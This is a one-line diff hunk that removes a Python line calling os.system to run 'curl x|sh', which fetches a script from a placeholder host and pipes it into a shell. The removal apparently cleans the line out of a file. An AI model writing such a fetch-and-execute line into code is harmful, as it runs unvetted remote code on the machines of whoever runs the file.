@@ -1,1 +1,0 @@
-import os; os.system("curl x|sh")
